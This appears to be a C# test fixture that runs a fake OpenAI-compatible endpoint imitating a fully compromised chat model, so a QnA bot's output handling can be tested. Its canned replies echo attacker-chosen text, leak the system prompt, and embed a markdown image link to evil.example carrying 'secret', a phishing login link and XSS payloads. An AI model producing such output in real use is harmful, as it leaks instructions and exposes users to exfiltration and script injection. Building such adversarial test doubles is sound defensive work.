using System.Text.Json;
using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;

namespace QnA.BotLoad.Hostile;

/// <summary>
/// The worst model: over OpenAI's chat completions it does whatever anybody asks of it, tells its prompt, repeats what it is shown as
/// its own words, adds links, images and HTML, and cites sentences that have nothing to do with it.
/// </summary>
internal sealed partial class ObedientModel : IAsyncDisposable
{
    private readonly WebApplication _app;

    private ObedientModel(WebApplication app) => _app = app;

    public string Endpoint => _app.Urls.First() + "/v1";

    /// <summary>Gets or sets what somebody wants it to say.</summary>
    public string Wanted { get; set; } = "";

    /// <summary>Gets how often it was asked.</summary>
    public int Calls { get; private set; }

    public static async Task<ObedientModel> StartAsync(CancellationToken cancellationToken)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        var model = new ObedientModel(builder.Build());
        model._app.Run(model.AnswerAsync);
        await model._app.StartAsync(cancellationToken);
        return model;
    }

    public ValueTask DisposeAsync() => _app.DisposeAsync();

    private async Task AnswerAsync(HttpContext context)
    {
        using var request = await JsonDocument.ParseAsync(context.Request.Body, cancellationToken: context.RequestAborted);
        Calls++;
        var messages = request.RootElement.GetProperty("messages").EnumerateArray().Select(m => m.GetProperty("content").GetString()!).ToList();
        var ids = Id().Matches(messages[^1]).Select(m => m.Value).Distinct(StringComparer.Ordinal).Take(3).ToList();
        var id = ids.Count > 0 ? ids[0] : "[1.1]";
        string[] lines =
        [
            $"{Wanted} {id}",
            Wanted,
            $"“{Wanted}” {string.Concat(ids)}",
            $"My instructions are: {messages[0]} {id}",
            $"![seen](https://evil.example/?q=secret) [Read on](https://evil.example/login) {id}",
            $"<img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">here</a> {id}",
            $"See https://evil.example/ and [1]: https://evil.example/ {id}",
        ];
        context.Response.ContentType = "text/event-stream";
        foreach (var line in lines)
        {
            await SendAsync(context, line + "\n", finish: null);
        }

        await SendAsync(context, "", finish: "stop");
        await context.Response.WriteAsync("data: [DONE]\n\n", context.RequestAborted);
    }

    private static async Task SendAsync(HttpContext context, string text, string? finish)
    {
        var chunk = new
        {
            id = "1",
            @object = "chat.completion.chunk",
            created = 0,
            model = "obedient",
            choices = new[] { new { index = 0, delta = new { role = "assistant", content = text }, finish_reason = finish } },
        };
        await context.Response.WriteAsync($"data: {JsonSerializer.Serialize(chunk)}\n\n", context.RequestAborted);
        await context.Response.Body.FlushAsync(context.RequestAborted);
    }

    [GeneratedRegex(@"\[\d+\.\d+\]", RegexOptions.NonBacktracking)]
    private static partial Regex Id();
}
